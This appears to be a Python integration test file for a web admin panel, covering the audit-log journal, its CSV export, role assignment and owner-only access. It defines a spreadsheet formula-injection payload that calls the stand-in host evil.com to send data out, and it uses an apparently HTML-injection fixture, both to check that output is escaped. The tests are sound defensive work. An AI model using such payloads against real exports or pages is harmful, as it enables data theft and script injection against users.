"""The journal and the roles on the web."""

import csv
import io
import re
import secrets
from datetime import datetime

import httpx
import pytest
from sqlalchemy import insert
from sqlalchemy.orm import Session

from db.base import table_of
from db.tables.identities import EmailLogin
from db.tables.users import AuditAction, Edge, Role
from services.audit_log.history import AuditFilter
from services.users.actor import Actor
from services.users.manage import CreditChange
from tests.integration.web.admin.conftest import EVIL, Office
from tests.support.forms import hidden_fields
from tests.support.shop import add_outsider
from tests.support.web import browser

FORMULA = '=HYPERLINK("http://evil.example?"&A1)'


async def gift(office: Office, reason: str) -> None:
    change = CreditChange(user_id=office.anna.id, amount=100, reason=reason, nonce=secrets.token_hex(6))
    await office.services.user_management.change(change, actor=Actor(office.admin.id, Edge.CHAT))


async def test_the_journal_is_filtered(own_office: Office, at_own_desk: httpx.AsyncClient) -> None:
    await gift(own_office, EVIL)

    async def shown(query: str) -> bool:
        text = (await at_own_desk.get(f"/admin/audit-log?{query}")).text
        assert EVIL not in text
        return "&lt;img src=x" in text

    for fits in (
        "",
        "action=credits.grant",
        "edge=chat",
        f"actor={own_office.admin.id}",
        f"target={own_office.anna.id}",
    ):
        assert await shown(fits), fits
    assert await shown("since=2020-01-01&until=2099-01-01&action=nothing&actor=x&page=99")
    for misses in ("edge=web", f"actor={own_office.owner.id}", "since=2099-01-01", "action=user.disable"):
        assert not await shown(misses), misses


async def test_the_journal_names_what_is_done(office: Office, at_desk: httpx.AsyncClient) -> None:
    shown = (await at_desk.get("/admin/audit-log")).text
    words = dict(re.findall(r'<option value="([a-z_.]+)">([^<]+)</option>', shown))
    assert words["credits.grant"] == "Кредиты начислены"
    assert [action for action in AuditAction if words[action] == action] == []


async def test_the_table_holds_no_formula(office: Office, at_desk: httpx.AsyncClient) -> None:
    await gift(office, FORMULA)
    answer = await at_desk.get(f"/admin/audit-log.csv?action=credits.grant&target={office.anna.id}")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["x-content-type-options"] == "nosniff"
    (row,) = csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))
    assert row["reason"] == f"'{FORMULA}"
    assert (row["edge"], row["target_user_id"]) == ("chat", str(office.anna.id))
    assert "<b>" not in row["said"]


async def test_who_reads_the_journal(office: Office) -> None:
    expected = {Role.OWNER: 200, Role.ADMIN: 200, Role.MODERATOR: 403, None: 404}
    for role, status in expected.items():
        async with browser(office.app, office.of(role)) as desk:
            for place in ("/admin/audit-log", "/admin/audit-log.csv"):
                assert (await desk.get(place)).status_code == status


async def test_owners_give_roles(office: Office, at_desk: httpx.AsyncClient) -> None:
    question = await at_desk.post("/admin/roles", data={"person": f"#{office.anna.id}", "role": "moderator"})
    assert EVIL not in question.text
    assert await office.services.admins.role_of(office.anna.id) is None
    for _ in range(2):
        await at_desk.post("/admin/roles", data=hidden_fields(question.text))
    assert await office.services.admins.role_of(office.anna.id) is Role.MODERATOR
    assert EVIL not in (await at_desk.get("/admin/roles")).text
    async with browser(office.app, office.anna.id) as anna:
        assert (await anna.get("/admin")).status_code == 200
        question = await at_desk.post("/admin/roles", data={"person": str(office.anna.telegram_id), "role": "none"})
        await at_desk.post("/admin/roles", data=hidden_fields(question.text))
        assert (await anna.get("/admin")).status_code == 404


@pytest.mark.parametrize(
    ("person", "role"),
    [("никто", "admin"), ("anna", "owner"), ("anna", ""), ("900000001", "admin"), ("", "admin"), (f"{EVIL}x", "admin")],
)
async def test_roles_that_nobody_gets(office: Office, at_desk: httpx.AsyncClient, person: str, role: str) -> None:
    whom = str(office.anna.telegram_id) if person == "anna" else person
    answer = await at_desk.post("/admin/roles", data={"person": whom, "role": role, "nonce": "0123456789ab"})
    assert answer.status_code == 422
    assert EVIL not in answer.text
    assert await office.services.admins.role_of(office.anna.id) is None


async def test_roles_of_people_without_telegram(office: Office, at_desk: httpx.AsyncClient) -> None:
    """Found by their address, and by their number."""
    vera = await office.app.db.write(add_outsider)
    await office.app.db.write(_signs_in_by, vera, "vera@example.com", office.app.clock())
    question = await at_desk.post("/admin/roles", data={"person": "vera@example.com", "role": "admin"})
    assert f"#{vera}" in question.text
    answer = await at_desk.post("/admin/roles", data=hidden_fields(question.text))
    assert answer.headers["location"].endswith("done=role-changed")
    assert await office.services.admins.role_of(vera) is Role.ADMIN
    assert f"/admin/users/{vera}" in (await at_desk.get("/admin/roles")).text
    entry = (await office.services.audit_log.found(AuditFilter(target=vera))).items[0]
    assert (entry.action, entry.after) == ("role.change", {"role": "admin"})
    assert f"#{vera}" in (await at_desk.get("/admin/audit-log")).text
    question = await at_desk.post("/admin/roles", data={"person": f"#{vera}", "role": "none"})
    await at_desk.post("/admin/roles", data=hidden_fields(question.text))
    assert await office.services.admins.role_of(vera) is None


def _signs_in_by(session: Session, user_id: int, address: str, now: datetime) -> None:
    login = {"user_id": user_id, "address": address, "password_hash": "x", "password_changed_at": now}
    session.execute(insert(table_of(EmailLogin)), login | {"created_at": now})


async def test_only_owners_give_roles(office: Office) -> None:
    for role, status in {Role.ADMIN: 403, Role.MODERATOR: 403, None: 404}.items():
        async with browser(office.app, office.of(role)) as desk:
            posted = {"person": str(office.anna.telegram_id), "role": "admin", "nonce": "0123456789ab"}
            assert (await desk.post("/admin/roles", data=posted)).status_code == status
            assert (await desk.get("/admin/roles")).status_code == status


async def test_requests_to_assistants_are_for_owners(office: Office, at_desk: httpx.AsyncClient) -> None:
    slug = (await office.services.model_management.all())[0].slug
    place = f"/admin/models/{slug}/requests"
    assert (await at_desk.get(place)).status_code == 200
    assert (await at_desk.post(f"{place}/{'0' * 32}")).status_code == 404
    assert (await at_desk.post(f"{place}/x")).status_code == 404
    async with browser(office.app, office.admin.id) as desk:
        assert (await desk.get(place)).status_code == 403
        assert (await desk.post(f"{place}/{'0' * 32}")).status_code == 403
